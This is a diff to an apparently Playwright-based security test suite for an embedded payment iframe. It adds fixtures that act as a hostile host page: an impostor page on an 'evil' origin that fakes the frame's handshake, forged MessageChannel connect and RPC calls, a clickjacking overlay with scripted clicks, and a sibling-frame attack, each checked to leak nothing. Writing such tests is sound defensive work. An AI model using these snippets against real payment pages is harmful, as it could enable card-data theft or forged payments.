@@ -28,6 +28,98 @@ function markupOf(page: Page, system: System): Promise<string> {
   return frameDocument(page, system, 'payment').evaluate('document.documentElement.outerHTML');
 }
 
+type Opened = Awaited<ReturnType<typeof openPaymentPage>>;
+
+/** What a buyer is at: how it is while nobody harms it, and when the frame has come again. */
+const STATES: readonly [
+  what: string,
+  open: (opened: Opened) => Promise<{
+    expectUntouched: () => Promise<void>;
+    expectShown: () => Promise<void>;
+  }>,
+][] = [
+  [
+    'a typed card',
+    async ({ typeCard, frame }) => {
+      await typeCard();
+      const number = frame.locator('#cc-number');
+      return {
+        expectUntouched: () => expect(number).toHaveValue('4111 1111 1111 1111'),
+        expectShown: () => expect(number).toHaveValue(''),
+      };
+    },
+  ],
+  [
+    'an open PIX',
+    async ({ method, pay, frame }) => {
+      await method('PIX').check();
+      const { payin } = Object(await pay());
+      const shown = () => expect(frame.locator('#code')).toHaveValue(payin.pix.qrcode);
+      return { expectUntouched: shown, expectShown: shown };
+    },
+  ],
+  [
+    'the way to a bank',
+    async ({ method, pay, frame }) => {
+      await method('Seu banco').check();
+      await frame.locator('.banks input').first().check();
+      await pay();
+      const address = await frame.locator('#go').getAttribute('href');
+      const shown = () => expect(frame.locator('#go')).toHaveAttribute('href', String(address));
+      return { expectUntouched: shown, expectShown: shown };
+    },
+  ],
+];
+
+const LOSSES = [
+  ['turns it to another address', 'iframe.src = evil'],
+  ['leads its window elsewhere', 'iframe.contentWindow.location.replace(evil)'],
+  ['takes it to another place', 'document.body.append(iframe)'],
+] as const;
+
+/** Says a hello as ours does, and tells the page what it is told. */
+const IMPOSTOR = `<!doctype html><script>
+  onmessage = ({ data, ports }) => parent.postMessage({ got: [data, ports.length] }, '*');
+  const nonce = new URLSearchParams(location.hash.slice(1)).get('nonce');
+  parent.postMessage({ checkout: 'hello', version: 1, nonce }, '*');
+</script>`;
+
+/** Sends a port of its own to every frame of the page, and calls by it. */
+const FORGE = `
+  for (let index = 0; index < at.length; index += 1) {
+    const { port1, port2 } = new MessageChannel();
+    port1.onmessage = ({ data }) => top.stolen.push(data);
+    at[index].postMessage({ checkout: 'connect', version: 1, nonce: '' }, '*', [port2]);
+    for (const path of ['submit', 'choose', 'show']) {
+      port1.postMessage({ id: path, type: 'APPLY', path: [path],
+        argumentList: [{ type: 'RAW', value: {} }] });
+    }
+  }`;
+
+const COVER = `
+  const at = window;
+  ${FORGE}
+  const cover = document.createElement('div');
+  cover.style.cssText = 'position:fixed;inset:0;opacity:0.01';
+  document.body.append(cover);
+  for (let clientY = 20; clientY < innerHeight; clientY += 20) {
+    for (const target of [iframe, cover, document.elementFromPoint(60, clientY)]) {
+      target?.dispatchEvent(new MouseEvent('click', { bubbles: true, clientX: 60, clientY }));
+      target?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
+    }
+  }
+  iframe.focus();
+  iframe.click();
+  cover.remove();`;
+
+const CONNECT = `
+  const sibling = document.createElement('iframe');
+  sibling.srcdoc = '<script>const at = parent;' + ${JSON.stringify(FORGE)} + '<' + '/script>';
+  await new Promise((resolve) => {
+    sibling.onload = resolve;
+    document.body.append(sibling);
+  });`;
+
 test.describe('the page’s own endpoint', () => {
   test('has no say in the code, line and bank shown', async ({ page, places, system }) => {
     const thief = {
@@ -157,52 +249,59 @@ test.describe('a script of the page', () => {
     expect(findCanary(learnt)).toEqual([]);
   });
 
-  test('that posts, covers and clicks moves nothing in it', async ({ page, places, system }) => {
-    const { method, typeCard, frame, sent } = await openPaymentPage(page, places);
-    await typeCard();
-    await page.evaluate(`(() => {
-      const iframe = document.querySelector('#pay iframe');
-      const { port1, port2 } = new MessageChannel();
-      window.stolen = [];
-      port1.onmessage = ({ data }) => stolen.push(data);
-      iframe.contentWindow.postMessage({ checkout: 'connect', version: 1, nonce: '' }, '*', [port2]);
-      for (const path of ['submit', 'choose']) {
-        port1.postMessage({ id: path, type: 'APPLY', path: [path],
-          argumentList: [{ type: 'RAW', value: {} }] });
-      }
-      const cover = document.createElement('div');
-      cover.style.cssText = 'position:fixed;inset:0;opacity:0.01';
-      document.body.append(cover);
-      const at = { bubbles: true, clientX: 60, clientY: 200 };
-      for (const target of [iframe, cover, document.elementFromPoint(60, 200)]) {
-        target.dispatchEvent(new MouseEvent('click', at));
-        target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
-      }
-      iframe.click();
-      cover.remove();
-    })()`);
-    await everybodyHeard(page);
-    await everybodyHeard(page);
-    expect(await page.evaluate('stolen')).toEqual([]);
-    expect(sent).toEqual([]);
-    await expect(method('Cartão')).toBeChecked();
-    await expect(frame.locator('#cc-number')).toHaveValue('4111 1111 1111 1111');
-    expect(await markupOf(page, system)).toContain('id="methods"');
-  });
+  for (const [what, open] of STATES) {
+    for (const [how, attack] of LOSSES) {
+      const tag = rare(what !== 'an open PIX' || how !== 'turns it to another address');
+      test(`that ${how} gets nothing of ${what}, and it comes again${tag}`, async ({
+        page,
+        places,
+        merchant,
+      }) => {
+        const opened = await openPaymentPage(page, places);
+        const { expectShown } = await open(opened);
+        const before = opened.sent.length;
+        const evil = merchant.originOf('evil') + merchant.serve(IMPOSTOR);
+        const lost = await page.evaluate(`(async () => {
+          window.leaked = [];
+          addEventListener('message', ({ data }) => data.got && leaked.push(data.got));
+          const iframe = document.querySelector('#pay iframe');
+          const evil = ${JSON.stringify(evil)} + new URL(iframe.src).hash;
+          const lost = new Promise((resolve) => element.on('loaderror', resolve));
+          ${attack};
+          return [plain(await lost), await element.submit().then(plain, plain)];
+        })()`);
+        expect(lost).toMatchObject([{ code: 'FRAME_LOST' }, { code: 'FRAME_LOST' }]);
+        expect(opened.sent).toHaveLength(before);
+        await page.getByRole('button', { name: 'Tentar de novo' }).click();
+        await expectShown();
+        expect(await page.evaluate('leaked')).toEqual([]);
+      });
+    }
 
-  test('that moves the frame elsewhere loses it and what was typed', async ({ page, places }) => {
-    const { typeCard, sent } = await openPaymentPage(page, places);
-    await typeCard();
-    const lost = page.evaluate(
-      `new Promise((resolve) => element.on('loaderror', (error) => resolve(plain(error))))`,
-    );
-    await page.evaluate(`document.body.append(document.querySelector('#pay iframe'))`);
-    expect(await lost).toMatchObject({ code: 'FRAME_LOST' });
-    expect(await page.evaluate('element.submit().then(plain, plain)')).toMatchObject({
-      code: 'FRAME_LOST',
-    });
-    expect(sent).toEqual([]);
-  });
+    for (const [how, attack] of [
+      ['covers it and scripts clicks and keys', COVER],
+      ['connects to it from a sibling frame', CONNECT],
+    ] as const) {
+      const tag = rare(what !== 'an open PIX');
+      test(`that ${how} moves nothing of ${what}${tag}`, async ({ page, places, merchant }) => {
+        const opened = await openPaymentPage(page, places);
+        const { expectUntouched } = await open(opened);
+        const before = { address: page.url(), sent: opened.sent.length };
+        await page.evaluate(`(async () => {
+          window.stolen = [];
+          const iframe = document.querySelector('#pay iframe');
+          const evil = ${JSON.stringify(merchant.originOf('evil') + merchant.serve(IMPOSTOR))};
+          ${attack}
+        })()`);
+        // What was sent has arrived after the first round, and an answer to it after the second.
+        await everybodyHeard(page);
+        await everybodyHeard(page);
+        await expectUntouched();
+        expect(await page.evaluate('stolen')).toEqual([]);
+        expect({ address: page.url(), sent: opened.sent.length }).toEqual(before);
+      });
+    }
+  }
 
   test(`that stores another payin sees the service’s answer${rare()}`, async ({ page, places }) => {
     const { referenceId } = await openPaymentPage(page, places);
